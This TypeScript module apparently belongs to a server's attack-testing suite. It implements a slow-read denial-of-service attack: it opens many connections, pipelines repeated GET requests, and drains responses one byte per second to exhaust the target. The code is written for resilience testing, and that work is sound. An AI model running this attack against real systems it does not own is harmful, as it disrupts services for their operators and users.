import { sleep } from '../../../server/lib/clock.ts';
import type { Attack } from '../part.ts';
import { attackersAddress, dial, targetOf } from '../raw-http.ts';
import { headOf } from '../shapes/shape.ts';

/** Who asks for much and takes it byte by byte. */
export interface SlowReaders {
  url: string;
  key: string;
  paths: readonly string[];
  connections: number;
  /** Requests that each sends without waiting for the responses. */
  pipelined: number;
  forMs: number;
}

export async function attack({
  url,
  key,
  paths,
  connections,
  pipelined,
  forMs,
}: SlowReaders): Promise<Attack> {
  const target = targetOf(url);
  const sockets = Array.from({ length: connections }, (_, n) => {
    const asked = paths[n % paths.length]!;
    const socket = dial(target, attackersAddress(n)).pause();
    socket.write(headOf(key, `GET ${asked} HTTP/1.1`).repeat(pipelined));
    return socket;
  });
  const deadline = performance.now() + forMs;
  while (performance.now() < deadline) {
    await sleep(1_000);
    for (const socket of sockets) socket.read(1);
  }
  for (const socket of sockets) socket.destroy();
  return { attempts: connections * pipelined, findings: [] };
}
